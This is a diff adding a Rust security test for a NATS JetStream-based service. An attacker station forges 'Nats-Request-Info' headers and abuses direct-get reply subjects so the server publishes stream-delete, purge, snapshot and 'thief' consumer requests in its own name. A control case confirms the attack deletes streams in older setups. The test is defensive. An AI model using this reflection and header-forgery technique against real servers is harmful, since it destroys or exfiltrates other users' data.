@@ -1,0 +1,210 @@
+//! A station that makes the server send responses with chosen content to the server's own subjects:
+//! a server publishes a response in its own name, and checks no permission.
+
+use std::collections::BTreeSet;
+use std::io::{Read as _, Write as _};
+use std::net::TcpStream;
+
+use async_nats::HeaderMap;
+use barograph_engine::{Engine as _, Nats, token};
+use serde_json::{Value, json};
+
+use crate::attack::{Attacker, asked};
+use crate::deployed::NORTH;
+use crate::server::{self, LIMIT, NatsServer};
+use crate::values::{eventually, name};
+
+/// State of a server's JetStream in its monitoring: streams with their configuration, consumers,
+/// accounts.
+#[derive(Clone, Debug, PartialEq)]
+pub(crate) struct Inventory(Vec<Value>);
+
+impl Inventory {
+    pub(crate) fn of(server: &NatsServer) -> Self {
+        let text = monitoring(server, "/jsz?accounts=1&streams=1&consumers=1&config=1");
+        let all: Value = serde_json::from_str(&text).unwrap();
+        let accounts = all["account_details"].as_array().cloned().unwrap_or_default();
+        let mut found = Vec::new();
+        for account in &accounts {
+            for stream in account["stream_detail"].as_array().cloned().unwrap_or_default() {
+                let first = &stream["state"]["first_seq"];
+                let is_records = stream["name"] == "BAROGRAPH";
+                found.push(json!({
+                    "account": account["name"],
+                    "stream": stream["name"],
+                    "created": stream["created"],
+                    "config": stream["config"],
+                    "consumers": stream["state"]["consumer_count"],
+                    // In the directory each key has only its newest entry, so the first number of
+                    // that stream changes without an attack.
+                    "first": if is_records { first.clone() } else { Value::Null },
+                    "deleted": if is_records { stream["state"]["num_deleted"].clone() } else { Value::Null },
+                }));
+            }
+        }
+        found.sort_by_key(|stream| stream["stream"].to_string());
+        Self(found)
+    }
+
+    /// Names of the server's accounts, in the form that the header of a request needs.
+    fn accounts(&self) -> BTreeSet<String> {
+        self.0.iter().filter_map(|stream| stream["account"].as_str().map(str::to_owned)).collect()
+    }
+}
+
+/// Number of subjects of the stream of records.
+pub(crate) fn subjects(server: &NatsServer) -> u64 {
+    let text = monitoring(server, "/jsz?accounts=1&streams=1");
+    let all: Value = serde_json::from_str(&text).unwrap();
+    let accounts = all["account_details"].as_array().unwrap().iter();
+    let mut streams = accounts.flat_map(|account| account["stream_detail"].as_array().unwrap());
+    let records = streams.find(|stream| stream["name"] == "BAROGRAPH").unwrap();
+    records["state"]["num_subjects"].as_u64().unwrap()
+}
+
+/// The server's own subjects, each with the most harmful content.
+fn targets() -> Vec<(String, Value)> {
+    let north = token(NORTH);
+    let mut targets = vec![
+        ("$JS.API.STREAM.CREATE.STOLEN".into(), json!({"name": "STOLEN", "subjects": ["stolen"]})),
+        ("$JS.API.STREAM.NAMES".into(), json!({})),
+        ("$JS.API.ACCOUNT.PURGE.BAROGRAPH".into(), json!({})),
+        ("$JS.API.META.LEADER.STEPDOWN".into(), json!({})),
+        ("$JS.API.SERVER.REMOVE".into(), json!({"peer": "nats"})),
+        ("$SYS.REQ.SERVER.PING".into(), json!({})),
+        ("$SYS.REQ.SERVER.PING.KICK".into(), json!({"cid": 1})),
+        ("$SYS.REQ.CLAIMS.UPDATE".into(), json!({})),
+        ("$SYS.REQ.CLAIMS.DELETE".into(), json!({})),
+        ("$SYS.REQ.USER.INFO".into(), json!({})),
+    ];
+    for stream in ["BAROGRAPH", "KV_barograph_dir"] {
+        let subjects = match stream {
+            "BAROGRAPH" => "barograph.r.*",
+            _ => "$KV.barograph_dir.*",
+        };
+        let consumer = |durable: Option<&str>| {
+            let mut config =
+                json!({"deliver_subject": format!("_INBOX_{north}.stolen"), "ack_policy": "none"});
+            if let Some(name) = durable {
+                config["durable_name"] = name.into();
+            }
+            json!({"stream_name": stream, "config": config})
+        };
+        targets.extend([
+            (
+                format!("$JS.API.STREAM.UPDATE.{stream}"),
+                json!({"name": stream, "subjects": [subjects], "max_msgs": 5, "num_replicas": 1}),
+            ),
+            (format!("$JS.API.STREAM.MSG.DELETE.{stream}"), json!({"seq": 1})),
+            (format!("$JS.API.STREAM.PURGE.{stream}"), json!({})),
+            (format!("$JS.API.STREAM.SNAPSHOT.{stream}"), json!({"deliver_subject": "stolen"})),
+            (format!("$JS.API.STREAM.RESTORE.{stream}"), json!({"config": {"name": stream}, "state": {}})),
+            (format!("$JS.API.STREAM.PEER.REMOVE.{stream}"), json!({"peer": "nats"})),
+            (format!("$JS.API.STREAM.LEADER.STEPDOWN.{stream}"), json!({})),
+            (format!("$JS.API.CONSUMER.CREATE.{stream}"), consumer(None)),
+            (format!("$JS.API.CONSUMER.CREATE.{stream}.thief"), consumer(None)),
+            (format!("$JS.API.CONSUMER.DURABLE.CREATE.{stream}.thief"), consumer(Some("thief"))),
+            (format!("$JS.API.CONSUMER.MSG.NEXT.{stream}.thief"), json!({"batch": 1})),
+            (format!("$JS.API.STREAM.DELETE.{stream}"), json!({})),
+        ]);
+    }
+    targets
+}
+
+/// Runs the attack, which must have no effect.
+pub(crate) async fn attack(attacker: &Attacker, server: &NatsServer, attackers: &Nats) {
+    let before = Inventory::of(server);
+    reflect(attacker, &before, &targets(), |target, is_stored| {
+        assert!(is_stored, "after an answer onto {target} nothing is stored any more");
+    })
+    .await;
+    // The server processes earlier requests before this one.
+    let seq = attackers.next_seq(&name(NORTH)).await.unwrap();
+    server::canary(attackers, NORTH, seq).await;
+    assert_eq!(Inventory::of(server), before);
+}
+
+/// The same attack where stations share the account of the streams, as in older versions: there it
+/// deletes a stream. This shows that the attack itself works.
+pub(crate) async fn control(attacker: &Attacker, server: &NatsServer) {
+    let before = Inventory::of(server);
+    let deletes = targets().into_iter().filter(|(target, _)| target.starts_with("$JS.API.STREAM.DELETE."));
+    reflect(attacker, &before, &deletes.collect::<Vec<_>>(), |_, _| {}).await;
+    eventually("a stream less", async || (Inventory::of(server).0.len() < before.0.len()).then_some(()))
+        .await;
+}
+
+/// Makes the server respond to each of these subjects with content that the attacker stored before.
+/// Calls `check` for each subject, with whether the content was stored.
+async fn reflect(
+    attacker: &Attacker,
+    before: &Inventory,
+    targets: &[(String, Value)],
+    check: impl Fn(&str, bool),
+) {
+    let own = [
+        (format!("$KV.barograph_dir.{}", token(NORTH)), "KV_barograph_dir"),
+        (format!("barograph.m.{}.x.rtt", token(NORTH)), "BAROGRAPH"),
+    ];
+    for (target, content) in targets {
+        for (key, stream) in &own {
+            for headers in before.accounts().iter().flat_map(|account| forged(account, target)) {
+                let content = content.to_string();
+                if headers.get("Nats-Trace-Dest").is_some() {
+                    // The server drops this request without a reply if the sender may not publish
+                    // to the reply subject.
+                    attacker.client.publish_with_headers(key.clone(), headers, content.into()).await.unwrap();
+                } else {
+                    let stored = attacker.client.request_with_headers(key.clone(), headers, content.into());
+                    check(target, stored.await.is_ok());
+                }
+                let get = format!("$JS.API.DIRECT.GET.{stream}");
+                for question in [json!({ "last_by_subj": key }), json!({ "multi_last": [key] })] {
+                    let question = question.to_string().into();
+                    attacker.client.publish_with_reply(get.clone(), target.clone(), question).await.unwrap();
+                }
+                attacker.client.flush().await.unwrap();
+            }
+        }
+        // The server's responses to a publication and about a stream.
+        let question = format!("barograph.a.{}.watermark", token(NORTH));
+        for asked in [own[0].0.as_str(), "$JS.API.STREAM.INFO.BAROGRAPH", &question] {
+            let content = content.to_string().into();
+            attacker.client.publish_with_reply(asked.to_owned(), target.clone(), content).await.unwrap();
+        }
+        // Responses of an archive, which may publish to all these subjects.
+        for answer in ["s.1", target, &format!("s.1.{target}"), "*.>", ">", "s.*", ""] {
+            let content = json!({ "after_place": 0, "origin": NORTH, "answer": answer }).to_string();
+            let (subject, reply) = (question.clone(), target.clone());
+            let sent =
+                attacker.client.publish_with_reply_and_headers(subject, reply, asked(), content.into());
+            sent.await.unwrap();
+        }
+    }
+}
+
+/// Headers that make the server treat a request as one from an account: once, and more often than
+/// it removes them; and a header that makes it send traces of a message to a subject.
+fn forged(account: &str, target: &str) -> Vec<HeaderMap> {
+    let info = json!({ "acc": account, "svc": account, "user": "archive.example.net" }).to_string();
+    let times = |count: usize| {
+        let mut headers = HeaderMap::new();
+        for _ in 0..count {
+            headers.append("Nats-Request-Info", info.as_str());
+        }
+        headers
+    };
+    let mut traced = times(3);
+    traced.insert("Nats-Trace-Dest", target);
+    vec![times(1), times(2), times(3), traced]
+}
+
+/// Reads a page of the server's monitoring.
+pub(crate) fn monitoring(server: &NatsServer, path: &str) -> String {
+    let mut stream = TcpStream::connect(server.monitoring_address()).unwrap();
+    stream.set_read_timeout(Some(LIMIT)).unwrap();
+    write!(stream, "GET {path} HTTP/1.0\r\n\r\n").unwrap();
+    let mut answer = String::new();
+    stream.read_to_string(&mut answer).unwrap();
+    answer.split_once("\r\n\r\n").unwrap().1.to_owned()
+}
